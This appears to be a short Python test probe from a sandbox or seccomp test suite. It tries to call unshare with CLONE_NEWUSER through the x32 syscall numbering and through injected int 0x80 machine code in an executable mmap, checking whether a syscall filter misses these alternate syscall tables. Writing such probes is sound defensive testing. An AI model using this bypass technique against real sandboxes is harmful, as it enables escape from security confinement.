# Tries: calls by the numbers of other tables (32 bit and x32), which a filter may forget
# End: finished | left
# Cases: <= 1
# Tests: -
import ctypes
import mmap
import os


def total(xs):
    return sum(xs)


libc = ctypes.CDLL(None, use_errno=True)
if libc.syscall(0x40000000 + 272, 0x10000000) == 0:
    print("@REACHED@ unshare by x32")
if os.uname().machine == "x86_64":
    # mov eax, 310 (unshare in the 32-bit table); mov ebx, CLONE_NEWUSER; int 0x80; ret
    code = b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3"
    area = mmap.mmap(-1, 4096, prot=7)
    area.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(area)))
    if call() == 0:
        print("@REACHED@ unshare by int 0x80")
